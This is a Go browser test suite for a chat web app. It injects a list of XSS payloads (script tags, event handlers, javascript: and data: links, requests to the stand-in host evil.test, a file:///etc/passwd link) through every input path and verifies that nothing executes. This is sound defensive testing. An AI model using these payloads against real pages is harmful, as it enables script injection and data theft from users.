//go:build browser

package page

import (
	"context"
	"encoding/json"
	"image/color"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/cdproto/network"
	cdppage "github.com/chromedp/cdproto/page"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"

	"vapp.dev/appliance/chat/chattest"
	"vapp.dev/engine"
)

// payloads are texts that would run a script, or request something, in a page that took a model's
// text for HTML. Each calls hit or requests evil.test.
var payloads = []string{
	`<script>hit()</script>`,
	`<script src="https://evil.test/x.js"></script>`,
	`<img src=x onerror=hit()>`,
	`<img src="https://evil.test/pixel.png">`,
	`<svg onload=hit()><script>hit()</script></svg>`,
	`<svg><a xlink:href="javascript:hit()"><text y="9">x</text></a></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=hit()></style></mglyph></table></mtext></math>`,
	`<iframe srcdoc="<script>parent.hit()</script>"></iframe>`,
	`<iframe src="javascript:parent.hit()"></iframe>`,
	`<object data="javascript:hit()"></object><embed src="javascript:hit()">`,
	`<base href="https://evil.test/">`,
	`<meta http-equiv="refresh" content="0;url=https://evil.test/">`,
	`<link rel=stylesheet href="https://evil.test/x.css"><style>@import 'https://evil.test/y.css'; * { background: url(https://evil.test/z) }</style>`,
	`<form action="javascript:hit()"><input autofocus onfocus=hit()><button formaction="javascript:hit()">x</button></form>`,
	`<details open ontoggle=hit()>x</details><marquee onstart=hit()>x</marquee>`,
	`<body onload=hit()><video><source onerror=hit()></video>`,
	`[a](javascript:hit())`,
	`[a](JaVaScRiPt:hit()) [a](java&#x73;cript:hit()) [a](&#106;avascript&colon;hit())`,
	"[a](java\tscript:hit()) [a](\u0001javascript:hit()) [a](<javascript:hit()>)",
	`[a](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==) [a](vbscript:hit()) [a](file:///etc/passwd) [a](//evil.test/x) [a](blob:https://evil.test/x)`,
	`<javascript:hit()> <data:text/html,<script>hit()</script>> javascript:hit()`,
	`[a](https://example.org "x\" onmouseover=\"hit()") [a](https://example.org/"onmouseover="hit())`,
	`![a](javascript:hit()) ![a](https://evil.test/p.png "onerror=hit()") ![a" onerror="hit()](https://evil.test/q.png)`,
	"[a]: javascript:hit()\n[b]: data:text/html,<script>hit()</script> 'x'\n\n[a] [b] [a][a]",
	"```\"><img src=x onerror=hit()>\n</code></pre><script>hit()</script>\n```",
	"```html\n<script>hit()</script><img src=x onerror=hit()>\n```",
	"```constructor\nx\n```\n\n```__proto__\ny\n```\n\n```hasOwnProperty <b>\nz\n```",
	"| <img src=x onerror=hit()> | b |\n|:-:|--|\n| <table><tr><td onclick=hit()> | `<script>hit()</script>` |",
	`&lt;script&gt;hit()&lt;/script&gt; &#60;img src=x onerror=hit()&#62;`,
	"${hit()} {{hit()}} {{constructor.constructor('hit()')()}} <%= hit() %> `${hit()}`",
	"</script><script>hit()</script><!--<script>hit()</script>--><![CDATA[<script>hit()</script>]]>",
	"# <a id=x onclick=hit()>\n\n> <img src=x onerror=hit()>\n\n1. <svg/onload=hit()>\n\n**<b onmouseover=hit()>** ~~<img src=x onerror=hit()>~~",
	"<img src=x onerror=hit()\u2028> <a href=\"\u0000javascript:hit()\">x</a> \u202e<script>hit()</script>",
	`![a](data:image/png;base64,iVBORw0KGgo=) ![a](data:image/svg+xml,<svg/onload=hit()>) <img src="data:image/png;base64,iVBORw0KGgo=" onerror=hit()>`,
	`<div id=ask><input id=key name=key></div><form id=settings name=getElementById></form><a id=log name=log>`,
}

// watch has every document count the calls of hit and the violations of the policy.
const watch = `window.hits = 0; window.hit = () => { hits++; }; window.violations = [];
document.addEventListener('securitypolicyviolation', e => violations.push(e.violatedDirective + ' ' + e.blockedURI + ' ' + e.sample));`

// audit returns what is wrong with the elements of the page: tags that it does not make, attributes
// that it does not set, links that do not lead to http or https, and images that are not the pixels
// of a user's image in its place.
const audit = `(() => {
	const tags = 'ARTICLE DIV SPAN P BR HR H3 H4 H5 H6 STRONG EM S CODE PRE UL OL LI BLOCKQUOTE TABLE THEAD TBODY TR TH TD A DETAILS SUMMARY B BUTTON FORM INPUT KBD I IMG'.split(' ');
	const names = 'class href title target rel type tabindex hidden open start aria-label data-id aria-current data-label placeholder style disabled'.split(' ');
	const wrong = [];
	for (const e of document.querySelectorAll('#log *, #images *, #picture *, #refused *, #list *, #said *, #toast *, #banner *, #reloads *, #pending *, #legend *, #ledger *')) {
		if (e.closest('#welcome') || e.parentNode.id === 'pending') continue;
		if (!tags.includes(e.tagName)) wrong.push(e.tagName);
		for (const a of e.attributes) if (!names.includes(a.name) && a.name !== 'id' && !(e.tagName === 'IMG' && ['src', 'alt'].includes(a.name))) wrong.push(e.tagName + ' ' + a.name);
		const image = /^data:image\/(png|jpeg|webp|gif|bmp|tiff);base64,[\w+/]+=*$/.test(e.getAttribute('src') || '');
		if (e.tagName === 'IMG' && !(e.closest('#images, .user > .pictures, .editor > .pictures') && image) && !(e.id === 'picture-image' && (image || !e.hasAttribute('src')))) wrong.push('IMG ' + e.src);
		if (e.hasAttribute('href') && !/^https?:\/\/example\.org|^https?:\/\/evil\.test/.test(e.getAttribute('href'))) wrong.push(e.getAttribute('href'));
		if (e.id && !e.closest('#toast, #banner, #pending, #picture')) wrong.push('id ' + e.id);
	}
	return wrong.join('; ');
})()`

// found is what a page under attack did.
type found struct {
	Hits       int
	Violations []string
	Wrong      string
	Foreign    []string // requests to other servers
}

// awaited has an expression's promise awaited.
func awaited(p *runtime.EvaluateParams) *runtime.EvaluateParams {
	return p.WithAwaitPromise(true).WithReturnByValue(true)
}

// attack opens a tab and returns a function that reports what ran in it.
func attack(t *testing.T, open func(*testing.T) context.Context) (context.Context, func() found) {
	t.Helper()
	ctx := open(t)
	var mu sync.Mutex
	var out found
	chromedp.ListenTarget(ctx, func(ev any) {
		mu.Lock()
		defer mu.Unlock()
		switch ev := ev.(type) {
		case *network.EventRequestWillBeSent:
			if u := ev.Request.URL; !strings.HasPrefix(u, "http://127.0.0.1:") && !strings.HasPrefix(u, "data:image/svg+xml,") && !strings.HasPrefix(u, "data:image/png;base64,") {
				out.Foreign = append(out.Foreign, u)
			}
		case *cdppage.EventJavascriptDialogOpening:
			out.Hits++
		}
	})
	do(t, ctx, "watch", network.Enable(), chromedp.ActionFunc(func(ctx context.Context) error {
		_, err := cdppage.AddScriptToEvaluateOnNewDocument(watch).Do(ctx)
		return err
	}))
	return ctx, func() found {
		var now found
		do(t, ctx, "look", chromedp.Evaluate(`new Promise(done => setTimeout(() => requestAnimationFrame(() => done({hits, violations}))))`, &now, awaited), chromedp.Evaluate(audit, &now.Wrong))
		mu.Lock()
		defer mu.Unlock()
		now.Hits += out.Hits
		now.Foreign = out.Foreign
		return now
	}
}

// TestNothingRuns sends every payload as the text, the thoughts and the tool calls of a model, as
// names and texts of the server, as errors, and as stored conversations.
func TestNothingRuns(t *testing.T) {
	if len(payloads) < 20 {
		t.Fatalf("%d payloads, want at least 20", len(payloads))
	}
	all := strings.Join(payloads, "\n\n")
	record := func(v any) string { return "data: " + string(must(json.Marshal(v))) + "\n\n" }
	type dict = map[string]any
	stream := http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		for _, p := range payloads {
			for _, piece := range []string{p[:len(p)/2], p[len(p)/2:] + "\n\n"} {
				_, _ = io.WriteString(w, record(dict{"choices": []dict{{"delta": dict{"content": piece, "reasoning": piece}}}}))
				_ = http.NewResponseController(w).Flush()
			}
		}
		for i, p := range payloads {
			_, _ = io.WriteString(w, record(dict{"choices": []dict{{"delta": dict{"tool_calls": []dict{{"index": i, "id": p, "function": dict{"name": p, "arguments": p}}}}}}}))
		}
		_, _ = io.WriteString(w, record(dict{"choices": []dict{{"delta": dict{}, "finish_reason": all}}}))
	})
	refuse := http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.WriteHeader(http.StatusBadRequest)
		_, _ = w.Write(must(json.Marshal(dict{"error": dict{"message": all}})))
	})
	s := scripted(t, nil, func(engine.Request) chattest.Script { return chattest.Script{Text: "</think>" + all} })
	s.fast.Store(true)
	status := dict{}
	if err := json.Unmarshal([]byte(figures), &status); err != nil {
		t.Fatal(err)
	}
	status["models"] = append([]string{"test"}, payloads...)
	status["limit_mm_per_prompt"] = dict{"image": 100}
	status["phase"], status["why"] = "failed", all
	status["pending"] = dict{"since": all, "changes": payloads, "error": all}
	status["reloads"] = []dict{{"at": all, "trigger": all, "class": all, "outcome": "rejected", "error": all, "changes": payloads, "note": all}}
	status["plan"].(dict)["model"], status["plan"].(dict)["device"] = all, all
	status["plan"].(dict)["segments"] = []dict{{"name": payloads[0], "bytes": 1, "what": all}}
	status["ledger"] = []dict{{"item": all, "plan_bytes": 1, "actual_bytes": 2}}
	s.status.Store(ptr(string(must(json.Marshal(status)))))

	ctx, look := attack(t, browse)
	check := func(where string) {
		t.Helper()
		if f := look(); f.Hits != 0 || len(f.Violations) != 0 || f.Wrong != "" || len(f.Foreign) != 0 {
			t.Errorf("%s: %d scripts ran, the policy was violated by %q, elements %q, requests %q", where, f.Hits, f.Violations, f.Wrong, f.Foreign)
		}
	}
	do(t, ctx, "names", chromedp.Navigate(s.url), says("#phase", "failed"), says("#banner", "hit()"), says("#reloads", "hit()"))
	check("names of the server")
	do(t, ctx, "a reply", enter(payloads[2]), says(".facts", "stop"), says(".content", "onerror=hit()"))
	check("a reply")
	s.answer.Store(&stream)
	do(t, ctx, "everything of a reply", enter(payloads[0]), says(".call b", "getElementById"), says(".facts", "hit()"), until(`document.querySelectorAll('.content').length === 2 && !document.querySelector('#send').hidden`),
		chromedp.Evaluate(`for (const e of document.querySelectorAll('details')) e.open = true; 0`, nil))
	check("pieces, thoughts and calls")
	s.answer.Store(&refuse)
	do(t, ctx, "an error", chromedp.Click("#fresh", chromedp.ByQuery), enter("x"), says(".facts.bad", "400: <script>"))
	check("an error")
	tiny := dataURL(plain(t, color.White))
	do(t, ctx, "file names", chromedp.Click("#fresh", chromedp.ByQuery), chromedp.Evaluate(`document.querySelector('#text').value = ''`, nil))
	s.answer.Store(&stream)
	for _, p := range []string{payloads[0], payloads[2], payloads[len(payloads)-1]} {
		do(t, ctx, "no image", paste(p, []byte("no image"), ""), says("#refused", "“"+p[:20]))
		check("the name of a file that is refused")
	}
	do(t, ctx, "images", chromedp.Evaluate(`{ const d = new DataTransfer(); for (const name of `+string(must(json.Marshal(payloads)))+`) d.items.add(new File([Uint8Array.from(atob(`+quoted(tiny)+`.split(',')[1]), c => c.charCodeAt(0))], name));
		dispatchEvent(new DragEvent('drop', {dataTransfer: d, cancelable: true})); } 0`, nil), pictured("#images", len(payloads)))
	check("names of files")
	do(t, ctx, "a message", press("Enter", "Enter"), says("#list [aria-current]", "<script>hit()</script>"), pictured(".user .pictures", len(payloads)), until(`!document.querySelector('#send').hidden`), chromedp.Evaluate(`document.querySelectorAll('.user .picture')[2].click()`, nil), says("#picture-name", "<img src=x"))
	check("a message of images")
	pictures := []dict{{"name": all, "url": tiny}}
	for _, p := range append(payloads, "https://evil.test/p.png", "blob:https://evil.test/x", "data:image/svg+xml;base64,PHN2Zy8+", "data:text/html;base64,PGI+", tiny+`" onerror="hit()`, "javascript:hit()", "/admin/status") {
		pictures = append(pictures, dict{"name": p, "url": p, "kept": p, "reduced": p})
	}
	stored := must(json.Marshal(dict{"title": all, "at": 1, "messages": []dict{{"role": "user", "content": all, "images": pictures}, {"role": "assistant", "content": "x", "images": pictures}, {"role": "assistant", "content": all, "reasoning": all, "facts": all, "end": all, "error": all,
		"tool_calls": []dict{{"id": all, "function": dict{"name": all, "arguments": all}}}}}}))
	list := []dict{{"id": "__proto__", "title": all, "at": 2, "chars": 9}, {"id": all, "title": all, "at": 3, "chars": 9}}
	do(t, ctx, "a stored conversation", chromedp.Evaluate(`localStorage.setItem('vapp.chats', `+quoted(string(must(json.Marshal(list))))+`); localStorage.setItem('vapp.chat.__proto__', `+quoted(string(stored))+`);
		localStorage.setItem('vapp.theme', `+quoted(payloads[0])+`); sessionStorage.setItem('vapp.current', '__proto__'); 0`, nil), chromedp.Reload(), says("#list .title", "hit()"), says(".content", "hit()"), says(".facts", "hit()"), pictured("#log", 1), says(".user .note", "not kept, not sent"))
	check("a stored conversation")
}

// TestScriptsAreNoticed checks that TestNothingRuns can fail: a page that takes a model's text for
// HTML violates its policy, and without the policy scripts run, foreign requests are made, and
// elements appear that the page does not make.
func TestScriptsAreNoticed(t *testing.T) {
	const safe, weak = "to.append(t.content);\n}", "{ const e = document.createElement('div'); e.innerHTML = t.content; to.append(e); }\n}"
	if !strings.Contains(script(), safe) {
		t.Fatal("markdown.js has changed: where does it append text?")
	}
	d := built()
	d.text = []byte(strings.Replace(string(d.text), safe, weak, 1))
	own := strings.Replace(script(), safe, weak, 1)
	with := strings.Replace(d.policy, digest(script()), digest(own), 1)
	for _, c := range []struct{ name, policy string }{{"with the policy", with}, {"without", ""}} {
		t.Run(c.name, func(t *testing.T) {
			page := d
			page.policy = c.policy
			s := scripted(t, nil, func(engine.Request) chattest.Script {
				return chattest.Script{Text: "</think>" + payloads[2] + "\n\n<img src=\"/\\evil.test/p.png\">"}
			})
			proxy := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				if r.URL.Path == "/" {
					r.Header.Del("Accept-Encoding")
					serve(w, r, page)
					return
				}
				s.server.Config.Handler.ServeHTTP(w, r)
			}))
			defer proxy.Close()
			ctx, look := attack(t, tab)
			do(t, ctx, "ask", chromedp.Navigate(proxy.URL), says("#phase", "ready"), enter("go"))
			if c.policy != "" {
				do(t, ctx, "a violation", until(`violations.length > 0`))
			} else {
				do(t, ctx, "a script", says(".facts", "stop"), until(`hits > 0`))
			}
			f := look()
			if c.policy != "" && (f.Hits != 0 || !strings.Contains(strings.Join(f.Violations, " "), "require-trusted-types-for")) {
				t.Errorf("%+v", f)
			}
			if c.policy == "" && (f.Hits == 0 || len(f.Foreign) == 0 || f.Wrong == "") {
				t.Errorf("%+v", f)
			}
		})
	}
}
